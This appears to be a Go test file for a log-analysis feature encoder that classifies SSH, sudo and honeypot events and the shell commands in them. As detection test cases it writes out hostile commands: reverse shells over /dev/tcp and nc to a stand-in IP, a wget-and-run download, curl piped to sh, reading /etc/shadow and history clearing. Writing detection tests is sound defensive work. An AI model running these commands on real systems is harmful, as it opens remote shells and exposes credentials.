package feature

import (
	"fmt"
	"math"
	"testing"

	"github.com/tiercel/tiercel/core/event"
)

func TestAuth(t *testing.T) {
	tests := []struct {
		name   string
		ts     texts
		ns     numbers
		want   map[string]float64
		flags  uint32
		entity string
	}{
		{
			"failed password",
			texts{event.SourceIP: "203.0.113.9", event.UserName: "Admin", event.HostName: "web1", event.Process: "sshd", event.Action: event.ActionLogin, event.Outcome: event.OutcomeFailure, event.Reason: event.ReasonInvalidUser},
			numbers{event.Repeats: 3},
			map[string]float64{
				"action.login": 1, "action.sudo": 0, "outcome.failure": 1, "outcome.success": 0, "reason.invalid-user": 1, "program.ssh": 1,
				"user.privileged": 1, "user.default": 0, "source.present": 1, "repeats": math.Log(4), "command.length": math.NaN(), "command.recon": math.NaN(),
			},
			FlagLogin | FlagFailed | FlagMissing | FlagPrivileged, "203.0.113.9",
		},
		{
			"a remark is no attempt",
			texts{event.SourceIP: "203.0.113.9", event.Process: "sshd", event.Action: event.ActionLogin},
			nil,
			map[string]float64{"action.login": 1, "outcome.failure": 0, "repeats": math.Log(2)},
			0, "203.0.113.9",
		},
		{
			"sudo runs a shell script",
			texts{event.UserName: "carol", event.TargetUser: "root", event.HostName: "web1", event.Process: "sudo", event.Action: event.ActionSudo, event.Outcome: event.OutcomeSuccess, event.Command: "/usr/bin/VIM /etc/fstab"},
			nil,
			map[string]float64{"action.sudo": 1, "target.root": 1, "program.privilege": 1, "command.credentials": 0, "command.length": math.Log(24), "source.present": 0},
			FlagPrivileged | FlagSuccess | FlagWrite, "carol",
		},
		{
			"honeypot command",
			texts{event.SourceIP: "203.0.113.9", event.Process: "cowrie", event.Action: event.ActionCommand, event.Command: "cd /tmp; wget http://192.0.2.1/x; chmod 777 x; HISTFILE=/dev/null ./x"},
			nil,
			map[string]float64{"command.temporary": 1, "command.download": 1, "command.permission": 1, "command.hidden": 1, "command.accounts": 0, "command.recon": 0},
			FlagWrite, "203.0.113.9",
		},
		{
			"cron line without user",
			texts{event.HostName: "web1", event.Process: "CRON", event.Action: event.ActionSession},
			nil,
			map[string]float64{"program.scheduler": 1, "action.session": 1, "user.odd": 0},
			0, "",
		},
		{
			"port scan",
			texts{event.SourceIP: "203.0.113.9", event.UserName: "x'; --", event.Process: "postfix/smtpd", event.Action: event.ActionConnect, event.Reason: event.ReasonNoIdentification},
			nil,
			map[string]float64{"program.mail": 1, "user.odd": 1, "reason.no-identification": 1},
			FlagAnswerless, "203.0.113.9",
		},
		{"an unknown action", texts{event.Action: "dance"}, nil, map[string]float64{"action.other": 0, "program.other": 1}, 0, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var m made
			m.add(event.Auth, tt.ts, tt.ns)
			out := encodeEvents(NewAuth(), &m.Batch)
			out.want(t, 0, tt.want)
			if got := out.obs[0].Flags; got != tt.flags {
				t.Errorf("flags %b, want %b", got, tt.flags)
			}
			var entity uint64
			if tt.entity != "" {
				entity = Hash64([]byte(tt.entity))
			}
			if out.obs[0].Entity != entity {
				t.Errorf("the entity is not %q", tt.entity)
			}
		})
	}
}

// sshd writes up to three lines about one failure; they count once, whichever
// of them a log has.
func TestAuthCountsAttempts(t *testing.T) {
	line := func(m *made, pid float64, message, reason string, repeats float64) {
		m.add(event.Auth, texts{event.SourceIP: "203.0.113.9", event.HostName: "web1", event.Process: "sshd", event.Action: event.ActionLogin, event.Outcome: event.OutcomeFailure, event.Reason: reason, event.Message: message},
			numbers{event.ProcessID: pid, event.Repeats: repeats}).Time = 1
	}
	const (
		invalid = "Invalid user admin from 203.0.113.9"
		pam     = "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9"
		failed  = "Failed password for invalid user admin from 203.0.113.9 port 51122 ssh2"
	)
	for _, tt := range []struct {
		name string
		fill func(m *made)
		want float64
	}{
		{"all three lines of two connections", func(m *made) {
			for pid := range 2 {
				line(m, float64(100+pid), invalid, event.ReasonInvalidUser, math.NaN())
				line(m, float64(100+pid), pam, event.ReasonBadPassword, math.NaN())
				line(m, float64(100+pid), failed, event.ReasonInvalidUser, math.NaN())
			}
		}, 2},
		{"several tries in one connection", func(m *made) {
			line(m, 100, invalid, event.ReasonInvalidUser, math.NaN())
			line(m, 100, failed, event.ReasonBadPassword, math.NaN())
			line(m, 100, failed, event.ReasonBadPassword, math.NaN())
			line(m, 100, failed, event.ReasonBadPassword, math.NaN())
		}, 3},
		{"a summary", func(m *made) {
			line(m, 100, pam, event.ReasonBadPassword, math.NaN())
			line(m, 100, failed, event.ReasonBadPassword, math.NaN())
			line(m, 100, "message repeated 4 times: [ Failed password for root from 203.0.113.9 port 51122 ssh2]", event.ReasonBadPassword, 4)
			line(m, 100, "PAM 4 more authentication failures; rhost=203.0.113.9", event.ReasonRepeated, 4)
			line(m, 100, "error: maximum authentication attempts exceeded for root", event.ReasonMaxAttempts, math.NaN())
		}, 5},
		{"lines without process", func(m *made) {
			for range 3 {
				line(m, math.NaN(), invalid, event.ReasonInvalidUser, math.NaN())
			}
		}, 3},
		{"a server that is one process for years", func(m *made) {
			for range 5000 {
				line(m, 7, failed, event.ReasonBadPassword, math.NaN())
			}
		}, 5000},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var m made
			tt.fill(&m)
			out := encodeEvents(NewAuth(), &m.Batch)
			c := NewContext(event.Auth, ContextLimits{})
			for i := range out.obs {
				c.Update(out.Row(i)[out.schema.Stateless:], &out.obs[i])
			}
			if got := math.Expm1(out.get(t, out.N-1, "source.failures_1h")); math.Abs(got-tt.want) > 0.01+tt.want/1000 {
				t.Errorf("%.2f failures, want %.0f", got, tt.want)
			}
		})
	}
}

func TestCommandGroups(t *testing.T) {
	for _, tt := range []struct {
		command string
		want    []int
	}{
		{"/usr/bin/apt-get update", nil},
		{"/usr/sbin/service nginx restart", nil},
		{"/usr/bin/vim /etc/resolv.conf", nil},
		{"cat /etc/shadow", []int{commandCredentials}},
		{"/usr/sbin/useradd -m eve", []int{commandAccounts}},
		{"/root/scripts/myuseradder.sh", nil}, // a word, not a part of one
		{"curl -s example.org/i | sh", []int{commandDownload}},
		{"grep x file | shuf", nil},
		{"bash -i >& /dev/tcp/192.0.2.1/443 0>&1", []int{commandRemoteShell}},
		{"nc -e /bin/sh 192.0.2.1 1234", []int{commandRemoteShell}},
		{"rsync -e ssh a b", nil},
		{"echo aGk= | base64 -d", []int{commandEncoded}},
		{"history -c", []int{commandHidden}},
		{"chmod 777 /var/www", []int{commandPermission}},
		{"iptables -f", []int{commandDefence}},
		{"uname -a", []int{commandRecon}},
		{"", nil},
	} {
		var want uint32
		for _, g := range tt.want {
			want |= 1 << g
		}
		if got := commandGroups([]byte(tt.command)); got != want {
			t.Errorf("%q: groups %b, want %b", tt.command, got, want)
		}
	}
}

func FuzzAuth(f *testing.F) {
	fuzzEncoder(f, event.Auth, []event.TextField{event.UserName, event.Action, event.Command, event.Process}, [][]string{
		{"root", event.ActionLogin, "cat /etc/shadow | sh", "sshd"},
		{"\x00\xff", event.ActionSudo, "|", "/"},
		{"a", event.ActionConnect, "\\", "a/b"},
	})
}

func BenchmarkAuth(b *testing.B) {
	var m made
	for i := range 1024 {
		m.add(event.Auth, texts{event.SourceIP: fmt.Sprint("203.0.113.", i%250), event.UserName: "root", event.HostName: "web1", event.Process: "sshd", event.Action: event.ActionLogin, event.Outcome: event.OutcomeFailure, event.Reason: event.ReasonBadPassword}, nil)
	}
	benchmarkEncoder(b, NewAuth(), &m)
}

func ExampleAuth() {
	var b event.Batch
	e := event.Event{}
	e.Reset()
	e.Kind = event.Auth
	e.Text[event.Action] = b.Append([]byte(event.ActionSudo))
	e.Text[event.Command] = b.Append([]byte("/bin/cat /etc/shadow"))
	b.Events = append(b.Events, e)

	auth := NewAuth()
	var rows Batch
	var seen []Observation
	auth.Encode(&rows, &seen, &b, new(Scratch))
	fmt.Println(rows.Row(0)[auth.Schema().Column("command.credentials")])
	// Output: 1
}
